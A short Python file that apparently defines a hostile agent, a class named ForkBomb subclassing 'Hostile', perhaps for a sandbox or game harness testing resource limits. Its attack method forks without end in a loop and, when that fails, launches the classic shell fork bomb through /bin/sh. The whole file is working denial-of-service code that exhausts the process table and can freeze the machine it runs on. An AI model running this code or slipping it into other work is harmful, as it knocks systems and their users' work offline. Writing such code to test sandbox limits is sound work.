"""Starts processes in every way: fork, spawn, a shell, threads of the C library."""

import os
import subprocess

from when import Hostile


class ForkBomb(Hostile):
    def attack(self, view, moves):
        try:
            while True:
                os.fork()
        except OSError:
            subprocess.Popen(["/bin/sh", "-c", ":(){ :|:& };:"])
